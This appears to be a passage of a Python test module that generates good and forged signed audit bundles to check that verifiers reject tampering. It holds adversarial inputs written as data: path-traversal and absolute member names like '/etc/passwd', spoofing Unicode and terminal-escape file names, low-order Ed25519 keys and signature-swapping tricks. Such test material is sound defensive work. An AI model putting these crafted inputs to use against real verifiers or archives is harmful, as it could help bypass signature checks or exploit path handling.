"""One corpus of bundles for every verifier: each by name, with the verdict that it must get.

Good bundles and forged ones, made from parts by plain means, so that a verifier in another language
can be held against ours: the same bytes, the same verdict, the same outcome of every check.
"""

from __future__ import annotations

import base64
import json
from copy import deepcopy
from dataclasses import dataclass, field
from functools import cache
from hashlib import sha256
from pathlib import Path
from typing import TYPE_CHECKING, Any, TypeAlias
from zlib import crc32

from cryptography.hazmat.primitives.asymmetric.utils import (
    decode_dss_signature,
    encode_dss_signature,
)

from mnaudit.model.verdict import Result
from mnaudit.signing import container, leaf, merkle
from mnaudit.signing.canonical import canonical_bytes
from mnaudit.signing.dsse import PAYLOAD_TYPE, pae
from mnaudit.signing.keys import load_private
from mnaudit.signing.model_signing import sidecar
from mnaudit.signing.statement import MANIFEST_TYPE, STATEMENT_TYPE, STATUS_TYPE, Subject

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable, Mapping

    from mnaudit.signing.keys import SigningKey

__all__ = ["ALGORITHMS", "Case", "Parts", "corpus", "good_parts"]

ALGORITHMS = ("ecdsa-p256", "ed25519")
ORDER_P256 = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
ORDER_ED25519 = 2**252 + 0x14DEF9DEA2F79CD65812631A5CF5D3ED

EVIDENCE = {
    "evidence/organization.yaml": b'organization: "8000000000001"\n',
    "evidence/training-record/files/名簿.pdf": b"%PDF-1.7\n",
    "evidence/training-record/t-2026.yaml": b"kind: training-record\n",
}
TRAINING = "evidence/training-record/t-2026.yaml"
SPKI_ED25519 = bytes.fromhex("302a 3005 0603 2b65 7003 2100")

_KEYS = Path(__file__).parent / "golden" / "attest"
_TITLES = {"PER-b-01": ("教育", "Training"), "PER-b-02": ("誓約", "Pledge")}


@dataclass(frozen=True, slots=True)
class Case:
    """A bundle, and what every verifier must say of it.

    Attributes:
        pin: What the verifier was told; None if nobody told.
        partial: Whether the verifier accepts a bundle that withholds evidence.
        check: The check that must fail or be unknown; empty for a good bundle.
    """

    name: str
    data: bytes
    pin: str | None
    result: Result
    check: str = ""
    partial: bool = False


@cache
def key_of(algorithm: str) -> SigningKey:
    """Return the test key of an algorithm."""
    return load_private((_KEYS / f"NEVER-USE-{algorithm}.pem").read_bytes(), None)


@dataclass
class Parts:
    """A bundle in parts, and the key that signed it."""

    key: SigningKey
    members: dict[str, bytes] = field(default_factory=dict)

    def envelope(self, name: str) -> Any:
        """Return the Sigstore bundle of ``manifest`` or ``status`` as a JSON value."""
        return json.loads(self.members[f"{name}.sigstore.json"])

    def payload(self, name: str) -> Any:
        """Return the statement in it, to be changed and signed again."""
        return json.loads(self.payload_bytes(name))

    def payload_bytes(self, name: str) -> bytes:
        return base64.b64decode(self.envelope(name)["dsseEnvelope"]["payload"])

    def sign(self, name: str, statement: object, key: SigningKey | None = None) -> None:
        payload = statement if isinstance(statement, bytes) else canonical_bytes(statement)
        self.members[f"{name}.sigstore.json"] = enveloped(payload, key or self.key)

    def change(self, name: str, change: Callable[[Any], object]) -> None:
        """Change a statement as its signer could, and sign it."""
        statement = self.payload(name)
        change(statement)
        self.sign(name, statement)
        if name == "manifest":
            self.bind()

    def bind(self) -> None:
        """Let the status name the manifest that is there now."""
        digest = sha256(self.payload_bytes("manifest")).hexdigest()
        status = self.payload("status")
        status["subject"][0]["digest"]["sha256"] = digest
        status["predicate"]["manifest"]["payload_sha256"] = digest
        tree = self.payload("manifest")["predicate"].get("tree")
        if tree:
            status["predicate"]["manifest"] |= {"root": tree["root"], "size": tree["size"]}
        self.sign("status", status)

    def reenvelope(self, name: str, change: Callable[[Any], object]) -> None:
        """Change an envelope without signing anything."""
        value = self.envelope(name)
        change(value)
        self.members[f"{name}.sigstore.json"] = canonical_bytes(value)

    def sums(self) -> None:
        digests = {name: sha256(data).hexdigest() for name, data in self.members.items()}
        digests.pop(container.CHECKSUMS, None)
        self.members[container.CHECKSUMS] = container.checksums(digests)

    def bundle(self) -> bytes:
        """Put the parts together in the right order, with the right check sums."""
        self.sums()
        return pack({name: self.members[name] for name in container.ordered(self.members)})

    def bundle_as_it_is(self) -> bytes:
        return pack({name: self.members[name] for name in container.ordered(self.members)})


def pack(members: Mapping[str, bytes]) -> bytes:
    """Write a container in the order of ``members``, whatever they are."""
    return pack_pairs(members.items())


def pack_pairs(members: Iterable[tuple[str, bytes]]) -> bytes:
    body, directory, count = bytearray(), bytearray(), 0
    for name, data in members:
        offset = len(body)
        body += container.local_header(name, len(data), crc32(data)) + data
        directory += container.central_header(name, len(data), crc32(data), offset)
        count += 1
    return bytes(body + directory + container.end_record(count, len(directory), len(body)))


def enveloped(
    payload: bytes, key: SigningKey, *, sig: bytes | None = None, kind: str = PAYLOAD_TYPE
) -> bytes:
    """Return a Sigstore bundle over a payload, as the specification writes it."""
    made = key.sign(pae(kind, payload)) if sig is None else sig
    return canonical_bytes(
        {
            "mediaType": "application/vnd.dev.sigstore.bundle.v0.3+json",
            "verificationMaterial": {"publicKey": {"hint": key.keyid}, "tlogEntries": []},
            "dsseEnvelope": {
                "payload": b64(payload),
                "payloadType": kind,
                "signatures": [{"keyid": key.keyid, "sig": b64(made)}],
            },
        }
    )


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def pem_of(der: bytes) -> bytes:
    text = b64(der)
    lines = [text[at : at + 64] for at in range(0, len(text), 64)]
    return "\n".join(
        ["-----BEGIN PUBLIC KEY-----", *lines, "-----END PUBLIC KEY-----", ""]
    ).encode()


# A good bundle


def catalog_bytes() -> bytes:
    controls = [{"id": name, "title": {"ja": ja, "en": en}} for name, (ja, en) in _TITLES.items()]
    return canonical_bytes({"catalog": {"id": "mnaudit"}, "controls": controls})


def manifest_statement(files: Mapping[str, bytes]) -> dict[str, Any]:
    names = sorted(files)
    roles = {"README.txt": "readme", "catalog.json": "catalog"}
    roles |= {"evidence/organization.yaml": "organization"}
    members: list[dict[str, Any]] = []
    for name in names:
        suffix = "document" if name.endswith(".yaml") else "attachment"
        members.append(
            {
                "name": name,
                "role": roles.get(name, suffix),
                "size": len(files[name]),
                "salt": sha256(b"salt of " + name.encode()).hexdigest(),
            }
        )
    statement: dict[str, Any] = {
        "_type": STATEMENT_TYPE,
        "subject": [
            {"name": name, "digest": {"sha256": sha256(files[name]).hexdigest()}} for name in names
        ],
        "predicateType": MANIFEST_TYPE,
        "predicate": {
            "organization": {"corporate_number": "8000000000001", "name": "株式会社見本商事"},
            "members": members,
        },
    }
    plant(statement)
    return statement


def leaf_hashes(statement: Mapping[str, Any]) -> list[bytes]:
    pairs = zip(statement["subject"], statement["predicate"]["members"], strict=True)
    return [
        leaf.hash_of(each["name"], subject["digest"]["sha256"], each["size"], each["salt"])
        for subject, each in pairs
    ]


def plant(statement: dict[str, Any]) -> None:
    """Compute the tree of a manifest anew."""
    hashes = leaf_hashes(statement)
    root = merkle.root(hashes).hex()
    tree = {"root": root, "size": len(hashes), "leaf": "mnaudit-leaf/v1"}
    statement["predicate"]["tree"] = tree


def status_statement(catalog: bytes) -> dict[str, Any]:
    counts = dict.fromkeys(
        ("satisfied", "not-satisfied", "not-applicable", "waived", "indeterminate"), 0
    )
    waived = {"approver": "E0001", "since": "2026-10-01", "until": "2026-12-31", "waiver": "w-1"}
    told = {"kind": "self-check", "on": "2026-10-15", "path": "leaf:4"}
    return {
        "_type": STATEMENT_TYPE,
        "subject": [{"name": "manifest", "digest": {"sha256": "0" * 64}}],
        "predicateType": STATUS_TYPE,
        "predicate": {
            "nature": "self-check",
            "verifier": {"id": "urn:mnaudit:verifier", "version": "1.0.0"},
            "organization": {"corporate_number": "8000000000001", "name": "株式会社見本商事"},
            "catalog": {
                "id": "mnaudit",
                "version": "1.0.0",
                "edition": "2025-06",
                "sha256": sha256(catalog).hexdigest(),
            },
            "as_of": "2026-11-01",
            "sme": True,
            "tiers": {
                "minimum": {
                    "status": "satisfied",
                    "counts": counts | {"satisfied": 1, "waived": 1},
                },
                "optional": {"status": "not-satisfied", "counts": counts | {"not-satisfied": 1}},
            },
            "findings": [
                {
                    "control": "PER-b-01",
                    "tier": "minimum",
                    "status": "satisfied",
                    "evidence": [4],
                    "assurance": "evidenced",
                    "due_on": "2027-04-09",
                },
                {
                    "control": "PER-b-01",
                    "tier": "optional",
                    "status": "not-satisfied",
                    "gaps": [
                        {
                            "code": "MN203",
                            "requirement": 0,
                            "values": {
                                "kind": "training-record",
                                "population": "workforce",
                                "found": 2,
                                "missing": ["E0012", "E0033"],
                                "since": "2025-11-01",
                            },
                        }
                    ],
                    "remarks": [{"code": "MN236", "values": told}],
                },
                {
                    "control": "PER-b-02",
                    "tier": "minimum",
                    "status": "waived",
                    "waiver": {"id": "w-1", "approver": "E0001", "until": "2026-12-31"},
                },
            ],
            "problems": [{"path": "leaf:3", "code": "MN120"}],
            "manifest": {"payload_sha256": "0" * 64, "root": "0" * 64, "size": 1},
            "documents": {"training-record": 1},
            "waivers": [
                {
                    "number": 0,
                    "id": "w-1",
                    "control": "PER-b-02",
                    "tier": "minimum",
                    "state": "applied",
                    "code": "MN240",
                    "values": waived,
                }
            ],
            "git": {"commit": "01" * 20, "object_format": "sha1"},
            "valid_until": "2026-12-31",
        },
    }


def good_parts(algorithm: str, *, with_sidecar: bool = True) -> Parts:
    """Return the parts of a bundle in which nothing is wrong."""
    key, catalog = key_of(algorithm), catalog_bytes()
    parts = Parts(key)
    signed = {"README.txt": b"README\n", "catalog.json": catalog, **EVIDENCE}
    parts.members = {
        "mimetype": container.MEDIA_TYPE,
        **signed,
        "signer.pub.pem": key.public_pem.encode(),
    }
    manifest = manifest_statement(signed)
    parts.sign("manifest", manifest)
    parts.sign("status", status_statement(catalog))
    parts.bind()
    extra = sidecar(subjects_of(manifest), key) if with_sidecar else None
    if extra is not None:
        parts.members[container.SIDECAR] = extra
    return parts


def subjects_of(manifest: Mapping[str, Any]) -> list[Subject]:
    return [Subject(each["name"], each["digest"]["sha256"]) for each in manifest["subject"]]


def partial_parts(algorithm: str, shown: Iterable[str] = (TRAINING,)) -> Parts:
    """Return the parts of a bundle that withholds evidence."""
    parts = good_parts(algorithm, with_sidecar=False)
    manifest = parts.payload("manifest")
    hashes = leaf_hashes(manifest)
    wanted = {"README.txt", "catalog.json", *shown}
    leaves = [
        {
            "index": index,
            "path": member["name"],
            "sha256": subject["digest"]["sha256"],
            "size": member["size"],
            "salt": member["salt"],
            "proof": [step.hex() for step in merkle.inclusion_proof(hashes, index)],
        }
        for index, (subject, member) in enumerate(
            zip(manifest["subject"], manifest["predicate"]["members"], strict=True)
        )
        if member["name"] in wanted
    ]
    for name in [*EVIDENCE, container.MANIFEST]:
        if name not in wanted:
            del parts.members[name]
    value = {"v": "mnaudit-disclosure/v1", "recipient": "監査人", "leaves": leaves}
    parts.members[container.DISCLOSURE] = canonical_bytes(value)
    return parts


# Mutations: each is a name, the check that notices, and what an attacker does.

Mutation: TypeAlias = "Callable[[Parts], bytes | None]"
_MUTATIONS: list[tuple[str, str, Mutation]] = []


def mutation(check: str, name: str) -> Callable[[Mutation], Mutation]:
    def register(change: Mutation) -> Mutation:
        _MUTATIONS.append((name, check, change))
        return change

    return register


def each(check: str, table: Mapping[str, Mutation]) -> None:
    _MUTATIONS.extend((name, check, change) for name, change in table.items())


def patched(data: bytes, at: int, value: bytes) -> bytes:
    return data[:at] + value + data[at + len(value) :]


def central_at(data: bytes, number: int = 0) -> int:
    at = int.from_bytes(data[-6:-2], "little")
    for _ in range(number):
        at += container.CENTRAL.size + int.from_bytes(data[at + 28 : at + 30], "little")
    return at


def central_patched(offset: int, value: bytes) -> Mutation:
    def change(parts: Parts) -> bytes:
        data = parts.bundle()
        return patched(data, central_at(data) + offset, value)

    return change


def local_patched(offset: int, value: bytes) -> Mutation:
    return lambda parts: patched(parts.bundle(), offset, value)


def both_patched(offset: int, value: bytes) -> Mutation:
    """Change both headers alike: they agree, and are still not what the specification says."""

    def change(parts: Parts) -> bytes:
        data = patched(parts.bundle(), offset, value)
        return patched(data, central_at(data) + offset + 2, value)

    return change


each(
    "container",
    {
        "an empty file": lambda _: b"",
        "a file of another kind": lambda _: b"%PDF-1.7\n" + bytes(200),
        "a program in front": lambda parts: b"#!/bin/sh\n" + parts.bundle(),
        "a byte behind": lambda parts: parts.bundle() + b"\0",
        "a byte short": lambda parts: parts.bundle()[:-1],
        "the first half": lambda parts: parts.bundle()[: len(parts.bundle()) // 2],
        "an archive comment": lambda parts: parts.bundle()[:-2] + b"\3\0abc",
        "two containers, one behind the other": lambda parts: parts.bundle() * 2,
        "a name that DOS wrote": central_patched(4, b"\x14\x00"),
        "a version that means ZIP64": both_patched(4, b"\x2d\x00"),
        "a flag that means encryption": both_patched(6, b"\x01\x08"),
        "a flag that means a data descriptor": both_patched(6, b"\x08\x08"),
        "names that are not said to be UTF-8": both_patched(6, b"\x00\x00"),
        "a method that means deflate": both_patched(8, b"\x08\x00"),
        "a time": both_patched(10, b"\x01\x00"),
        "a day": both_patched(12, b"\x22\x00"),
        "a check sum of zero": both_patched(14, bytes(4)),
        "two sizes": central_patched(20, b"\x01\x00\x00\x00"),
        "a size beyond the limit": central_patched(20, b"\x01\x00\x00\x04" * 2),
        "a size beyond the file": central_patched(20, b"\xff\xff\xff\x03" * 2),
        "an extra field in the central header": central_patched(30, b"\x04\x00"),
        "a comment in the central header": central_patched(32, b"\x01\x00"),
        "another disk": central_patched(34, b"\x01\x00"),
        "an internal attribute": central_patched(36, b"\x01\x00"),
        "a symbolic link": central_patched(38, b"\x00\x00\xff\xa1"),
        "a program by its mode": central_patched(38, b"\x00\x00\xed\x81"),
        "an offset that skips a byte": central_patched(42, b"\x01\x00\x00\x00"),
        "a name that differs between the headers": local_patched(30, b"M"),
        "an extra field in the local header only": local_patched(28, b"\x04\x00"),
        "a size that differs between the headers": local_patched(18, b"\x01"),
        "a name of no UTF-8": central_patched(46, b"\xff"),
    },
)


def with_name(name: str, data: bytes = b"") -> Mutation:
    def change(parts: Parts) -> None:
        parts.members[name] = data

    return change


each(
    "container",
    {
        "a name that leads out": with_name("evidence/../x"),
        "an absolute name": with_name("/etc/passwd"),
        "a drive letter": with_name("C:/x"),
        "a backslash": with_name("evidence\\x"),
        "an entry for a folder": with_name("evidence/folder/"),
        "a segment that is empty": with_name("evidence//x"),
        "a name that ends in a dot": with_name("evidence/x."),
        "a name that ends in a space": with_name("evidence/x "),
        "a device name": with_name("evidence/con.yaml"),
        "a device name with a superscript": with_name("evidence/LPT¹.yaml"),
        "a name in NFD": with_name("evidence/e\u0301.yaml"),
        "a name that turns the text around": with_name("evidence/\u202efdp.exe"),
        "a name with a zero-width space": with_name("evidence/a\u200bb"),
        "a name with a line end": with_name("evidence/a\nb"),
        "a name with a terminal sequence": with_name("evidence/\x1b[31mred"),
        "a name with a C1 control": with_name("evidence/\x9b31m"),
        "a name with a colon": with_name("evidence/a:b"),
        "a name of 256 bytes": with_name("evidence/" + "a" * 256),
        "a name of 1025 bytes": with_name("evidence/" + "a/" * 508),
        "a twin by case": with_name("evidence/Organization.yaml", b"x"),
        "a twin by width": with_name("evidence/\uff4frganization.yaml", b"x"),
        "a twin by sharp s": lambda parts: _twins(
            parts, "evidence/stra\u00dfe", "evidence/STRASSE"
        ),
        "a twin by capital sharp s": lambda parts: _twins(
            parts, "evidence/stra\u1e9ee", "evidence/strasse"
        ),
        "a twin by final sigma": lambda parts: _twins(
            parts, "evidence/\u03bf\u03c2", "evidence/\u039f\u03a3"
        ),
        "a twin by long s": lambda parts: _twins(parts, "evidence/\u017f", "evidence/S"),
        "a twin by Kelvin sign": lambda parts: _twins(
            parts, "evidence/\u212bx", "evidence/\u00e5x"
        ),
        "a twin by Cherokee case": lambda parts: _twins(
            parts, "evidence/\u13a0", "evidence/\uab70"
        ),
        "a twin by ligature": lambda parts: _twins(parts, "evidence/\ufb01x", "evidence/FIX"),
        "a file that is the folder of another": with_name("evidence/training-record", b"x"),
    },
)


def _twins(parts: Parts, *names: str) -> None:
    for name in names:
        parts.members[name] = b""


@mutation("container", "two members with one name")
def _(parts: Parts) -> bytes:
    parts.sums()
    pairs = [(name, parts.members[name]) for name in container.ordered(parts.members)]
    at = next(at for at, (name, _) in enumerate(pairs) if name == TRAINING)
    return pack_pairs([*pairs[: at + 1], (TRAINING, b"kind: other\n"), *pairs[at + 1 :]])


@mutation("container", "two members that share their bytes")
def _(parts: Parts) -> bytes:
    data = parts.bundle()
    second = central_at(data, 1)
    return patched(data, second + 42, bytes(4))


@mutation("container", "a damaged byte of evidence")
def _(parts: Parts) -> bytes:
    data = parts.bundle()
    at = data.index(b"kind: training-record")
    return patched(data, at, b"K")


@mutation("container", "a hidden byte before the directory")
def _(parts: Parts) -> bytes:
    data = parts.bundle()
    at = central_at(data)
    return (
        data[:at] + b"\0" + patched(data[at:], len(data) - at - 6, (at + 1).to_bytes(4, "little"))
    )


@mutation("container", "more members in the end record than in the directory")
def _(parts: Parts) -> bytes:
    data = parts.bundle()
    count = (len(parts.members) + 1).to_bytes(2, "little")
    return patched(data, len(data) - 14, count * 2)


# Layout


def without(name: str) -> Mutation:
    def change(parts: Parts) -> bytes:
        parts.sums()
        del parts.members[name]
        return parts.bundle_as_it_is()

    return change


each("layout", {"a container of nothing": lambda _: container.end_record(0, 0, 0)})
each("layout", {f"no {name}": without(name) for name in container.FIXED_MEMBERS})
each(
    "layout",
    {
        "a member of another kind": with_name("result.pdf", b"%PDF-1.7\n"),
        "a member beside the evidence": with_name("evidences/x"),
        "a member in a foreign folder": with_name("log/other"),
        "a policy with a leading zero": with_name("trust/policy.v01.dsse.json"),
        "a policy with a line end": with_name("trust/policy.v1.dsse.json.bak"),
        "both a manifest and a disclosure": with_name("disclosure.json", b"{}"),
    },
)


@mutation("layout", "members in another order")
def _(parts: Parts) -> bytes:
    parts.sums()
    return pack({name: parts.members[name] for name in sorted(parts.members)})


@mutation("layout", "another media type")
def _(parts: Parts) -> None:
    parts.members["mimetype"] += b"\n"


# Keys


def with_key(change_pem: Callable[[bytes], bytes]) -> Mutation:
    def change(parts: Parts) -> None:
        parts.members["signer.pub.pem"] = change_pem(parts.members["signer.pub.pem"])

    return change


def ed25519_pem(y: int, sign: int = 0) -> Callable[[bytes], bytes]:
    raw = (y | sign << 255).to_bytes(32, "little")
    return lambda _: pem_of(SPKI_ED25519 + raw)


P_ED25519 = 2**255 - 19
Y8 = 0x7A03AC9277FDC74EC6CC392CFA53202A0F67100D760B3CBA4FD84D3D706A17C7
SPKI_P256 = bytes.fromhex("3059 3013 0607 2a86 48ce 3d02 0106 082a 8648 ce3d 0301 0703 4200")
SPKI_SECP256K1 = bytes.fromhex("3056 3010 0607 2a86 48ce 3d02 0106 052b 8104 000a 0342 00")
GENERATOR_K1 = bytes.fromhex(
    "0479be667ef9dcbbac55a06295ce870b07029bfcdb2dce28d959f2815b16f81798"
    "483ada7726a3c4655da4fbfc0e1108a8fd17b448a68554199c47d08ffb10d4b8"
)

each(
    "signer-key",
    {
        "no key": with_key(lambda _: b""),
        "a key that is no PEM": with_key(lambda _: b"ssh-ed25519 AAAA"),
        "a line before the key": with_key(lambda pem: b"# safe\n" + pem),
        "a line behind the key": with_key(lambda pem: pem + b"\n"),
        "no last line end behind the key": with_key(lambda pem: pem[:-1]),
        "a key with other line ends": with_key(lambda pem: pem.replace(b"\n", b"\r\n")),
        "a key in lines of 32": with_key(
            lambda pem: (
                pem.replace(b"MFkw", b"MFkw\n")
                if b"MFkw" in pem
                else pem.replace(b"MCow", b"MCow\n")
            )
        ),
        "two keys": with_key(lambda pem: pem * 2),
        "a private label": with_key(lambda pem: pem.replace(b"PUBLIC", b"PRIVATE")),
        "a key of low order: 0": with_key(ed25519_pem(0)),
        "a key of low order: 1": with_key(ed25519_pem(1)),
        "a key of low order: -1": with_key(ed25519_pem(P_ED25519 - 1)),
        "a key of low order: order 8": with_key(ed25519_pem(Y8)),
        "a key of low order: order 8, other sign": with_key(ed25519_pem(Y8, 1)),
        "a key of low order: order 8, negative": with_key(ed25519_pem(P_ED25519 - Y8)),
        "a key that is not canonical": with_key(ed25519_pem(P_ED25519 + 3)),
        "a point that is on no curve": with_key(
            lambda _: pem_of(SPKI_P256 + b"\4" + bytes(31) + b"\1" + bytes(31) + b"\1")
        ),
        "a point at infinity": with_key(lambda _: pem_of(SPKI_P256 + bytes(65))),
        "a key of secp256k1": with_key(lambda _: pem_of(SPKI_SECP256K1 + GENERATOR_K1)),
        "a key of Ed25519 that is too short": with_key(lambda _: pem_of(SPKI_ED25519 + bytes(31))),
        "bytes behind a key of Ed25519": with_key(
            lambda _: pem_of(SPKI_ED25519 + b"\5" + bytes(31) + b"\0")
        ),
    },
)


def other_key(parts: Parts) -> SigningKey:
    return key_of(next(name for name in ALGORITHMS if name != parts.key.algorithm))


@mutation("pin", "a bundle that another key signed")
def _(parts: Parts) -> None:
    key = other_key(parts)
    parts.members.pop(container.SIDECAR, None)
    for name in ("manifest", "status"):
        parts.sign(name, parts.payload(name), key)
    parts.members["signer.pub.pem"] = key.public_pem.encode()


@mutation("same-signer", "another key in the bundle")
def _(parts: Parts) -> None:
    parts.members["signer.pub.pem"] = other_key(parts).public_pem.encode()


@mutation("same-signer", "a status that another key signed")
def _(parts: Parts) -> None:
    parts.sign("status", parts.payload("status"), other_key(parts))


@mutation("same-signer", "the key id of another key over the same signature")
def _(parts: Parts) -> None:
    keyid = other_key(parts).keyid

    def change(value: Any) -> None:
        value["verificationMaterial"]["publicKey"]["hint"] = keyid
        value["dsseEnvelope"]["signatures"][0]["keyid"] = keyid

    parts.reenvelope("status", change)


# Envelopes


def enveloped_as(change: Callable[[Any], object], name: str = "status") -> Mutation:
    return lambda parts: parts.reenvelope(name, change)


def respelled(change: Callable[[bytes], bytes], name: str = "status") -> Mutation:
    def apply(parts: Parts) -> None:
        member = f"{name}.sigstore.json"
        parts.members[member] = change(parts.members[member])

    return apply


def first_signature(change: Callable[[Any], object]) -> Callable[[Any], object]:
    return lambda value: change(value["dsseEnvelope"]["signatures"][0])


def lax(text: str) -> str:
    """Spell base64 so that lenient readers still get the same bytes."""
    digits = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    bare = text.rstrip("=")
    stray = digits[digits.index(bare[-1]) | 1]
    return bare[:-1] + stray + "=" * (len(text) - len(bare))


def pad(parts: Parts) -> None:
    """Make the payload one whose base64 has stray bits."""
    status = parts.payload("status")
    while len(canonical_bytes(status)) % 3 == 0:
        status["predicate"]["verifier"]["version"] += "0"
    parts.sign("status", status)


@mutation("status-envelope", "stray bits in base64")
def _(parts: Parts) -> None:
    pad(parts)
    payload = parts.envelope("status")["dsseEnvelope"]["payload"]
    parts.reenvelope("status", lambda value: value["dsseEnvelope"].update(payload=lax(payload)))


@mutation("status-envelope", "base64 without padding")
def _(parts: Parts) -> None:
    pad(parts)
    payload = parts.envelope("status")["dsseEnvelope"]["payload"].rstrip("=")
    parts.reenvelope("status", lambda value: value["dsseEnvelope"].update(payload=payload))


each(
    "status-envelope",
    {
        "no signature": enveloped_as(lambda v: v["dsseEnvelope"].update(signatures=[])),
        "the same signature twice": enveloped_as(
            lambda v: v["dsseEnvelope"]["signatures"].append(v["dsseEnvelope"]["signatures"][0])
        ),
        "signatures that are no list": enveloped_as(
            lambda v: v["dsseEnvelope"].update(signatures=v["dsseEnvelope"]["signatures"][0])
        ),
        "a hint that is not the key id": enveloped_as(
            lambda v: v["verificationMaterial"]["publicKey"].update(hint="x")
        ),
        "base64 with a blank": enveloped_as(
            first_signature(lambda s: s.update(sig=s["sig"][:4] + " " + s["sig"][4:]))
        ),
        "base64 of the URL kind": enveloped_as(first_signature(lambda s: s.update(sig="-_-_"))),
        "base64 that is a number": enveloped_as(first_signature(lambda s: s.update(sig=1))),
        "a payload that is missing": enveloped_as(lambda v: v["dsseEnvelope"].pop("payload")),
        "a field that nobody knows": enveloped_as(lambda v: v.update(x=1)),
        "a field that is null": enveloped_as(lambda v: v["dsseEnvelope"].update(extra=None)),
        "a log entry": enveloped_as(lambda v: v["verificationMaterial"]["tlogEntries"].append({})),
        "no log entries at all": enveloped_as(
            lambda v: v["verificationMaterial"].pop("tlogEntries")
        ),
        "a certificate": enveloped_as(
            lambda v: v["verificationMaterial"].update(certificate={"rawBytes": ""})
        ),
        "time-stamps that are none": enveloped_as(
            lambda v: v["verificationMaterial"].update(
                timestampVerificationData={"rfc3161Timestamps": []}
            )
        ),
        "nine time-stamps": enveloped_as(
            lambda v: v["verificationMaterial"].update(
                timestampVerificationData={"rfc3161Timestamps": [{"signedTimestamp": "MAA="}] * 9}
            )
        ),
        "another version of the envelope": enveloped_as(
            lambda v: v.update(mediaType="application/vnd.dev.sigstore.bundle+json;version=0.2")
        ),
        "a bare list": respelled(lambda data: b"[" + data + b"]"),
        "a blank in the envelope": respelled(lambda data: data.replace(b'{"d', b'{ "d', 1)),
        "a line end behind the envelope": respelled(lambda data: data + b"\n"),
        "a byte order mark": respelled(lambda data: b"\xef\xbb\xbf" + data),
        "UTF-16": respelled(lambda data: data.decode().encode("utf-16")),
        "a duplicate key": respelled(
            lambda data: data.replace(b'"mediaType":', b'"mediaType":"x","mediaType":')
        ),
        "a key with an escape": respelled(
            lambda data: data.replace(b'"mediaType"', b'"\\u006dediaType"')
        ),
        "keys in another order": respelled(
            lambda data: json.dumps(
                dict(reversed(json.loads(data).items())), separators=(",", ":")
            ).encode()
        ),
        "nothing": respelled(lambda _: b""),
        "a NUL byte behind the envelope": respelled(lambda data: data + b"\0"),
        "an endless nest": respelled(lambda _: b"[" * 100_000),
        "a comment": respelled(lambda data: b"/* */" + data),
        "a trailing comma": respelled(lambda data: data[:-1] + b",}"),
    },
)
each(
    "manifest-envelope",
    {
        "a time-stamp on the manifest": enveloped_as(
            lambda v: v["verificationMaterial"].update(
                timestampVerificationData={"rfc3161Timestamps": [{"signedTimestamp": "MAA="}]}
            ),
            "manifest",
        )
    },
)


# Signatures


def with_signature(change: Callable[[bytes], bytes], name: str = "status") -> Mutation:
    def apply(parts: Parts) -> None:
        def replace(signature: Any) -> None:
            signature["sig"] = b64(change(base64.b64decode(signature["sig"])))

        parts.reenvelope(name, first_signature(replace))

    return apply


each(
    "status-signature",
    {
        "an empty signature": with_signature(lambda _: b""),
        "a signature of zeros": with_signature(lambda sig: bytes(len(sig))),
        "a changed signature": with_signature(lambda sig: sig[:-1] + bytes([sig[-1] ^ 1])),
        "a byte behind the signature": with_signature(lambda sig: sig + b"\0"),
        "a signature that is cut off": with_signature(lambda sig: sig[:-1]),
    },
)


@mutation("status-signature", "a changed payload under the old signature")
def _(parts: Parts) -> None:
    payload = parts.payload_bytes("status").replace(b'"not-satisfied":1', b'"not-satisfied":0')
    parts.reenvelope("status", lambda v: v["dsseEnvelope"].update(payload=b64(payload)))


@mutation("status-signature", "the signature of the manifest under the status")
def _(parts: Parts) -> None:
    other = parts.envelope("manifest")["dsseEnvelope"]["signatures"]
    parts.reenvelope("status", lambda v: v["dsseEnvelope"].update(signatures=other))


@mutation("status-signature", "a signature over the bare payload")
def _(parts: Parts) -> None:
    payload = parts.payload_bytes("status")
    parts.members["status.sigstore.json"] = enveloped(
        payload, parts.key, sig=parts.key.sign(payload)
    )


@mutation("status-signature", "another payload type, signed")
def _(parts: Parts) -> None:
    payload = parts.payload_bytes("status")
    parts.members["status.sigstore.json"] = enveloped(payload, parts.key, kind="application/json")


@mutation("status-signature", "another payload type over the old signature")
def _(parts: Parts) -> None:
    parts.reenvelope("status", lambda v: v["dsseEnvelope"].update(payloadType="text/plain"))


@mutation("manifest-signature", "a changed manifest under the old signature")
def _(parts: Parts) -> None:
    payload = parts.payload_bytes("manifest").replace(b'"size":22', b'"size":23')
    parts.reenvelope("manifest", lambda v: v["dsseEnvelope"].update(payload=b64(payload)))


# Statements: the holder of the key signs nonsense.


def signed(change: Callable[[bytes], bytes], name: str = "status") -> Mutation:
    return lambda parts: parts.sign(name, change(parts.payload_bytes(name)))


def resaid(change: Callable[[Any], object], name: str = "status") -> Mutation:
    return lambda parts: parts.change(name, change)


def predicate(change: Callable[[Any], object], name: str = "status") -> Mutation:
    return resaid(lambda statement: change(statement["predicate"]), name)


def nested(depth: int) -> bytes:
    return b"[" * depth + b"]" * depth


each(
    "status-statement",
    {
        "signed garbage": signed(lambda _: b"Verified OK"),
        "a signed empty payload": signed(lambda _: b""),
        "a signed empty object": signed(lambda _: b"{}"),
        "signed duplicate keys": signed(
            lambda data: data.replace(b'{"_type":', b'{"_type":1,"_type":')
        ),
        "signed keys that differ by case": signed(
            lambda data: data.replace(b'"sme":true', b'"SME":false,"sme":true')
        ),
        "signed NaN": signed(lambda data: data.replace(b'"sme":true', b'"sme":NaN')),
        "signed infinity": signed(lambda data: data.replace(b'"waived":1', b'"waived":1e999')),
        "a signed fraction": signed(lambda data: data.replace(b'"waived":1', b'"waived":1.0')),
        "a signed exponent": signed(lambda data: data.replace(b'"waived":1', b'"waived":1e0')),
        "a signed minus zero": signed(lambda data: data.replace(b'"number":0', b'"number":-0')),
        "a signed leading zero": signed(lambda data: data.replace(b'"waived":1', b'"waived":01')),
        "a signed 2^53": signed(
            lambda data: data.replace(b'"waived":1', b'"waived":9007199254740992')
        ),
        "a signed number of 400 digits": signed(
            lambda data: data.replace(b'"waived":1', b'"waived":' + b"9" * 400)
        ),
        "a signed byte order mark": signed(lambda data: b"\xef\xbb\xbf" + data),
        "signed bytes that are no UTF-8": signed(
            lambda data: data.replace(b"mnaudit", b"mn\xffudit")
        ),
        "a signed lone surrogate": signed(
            lambda data: data.replace(b'"version":"1.0.0"', b'"version":"\\ud800"')
        ),
        "a signed surrogate in UTF-8": signed(
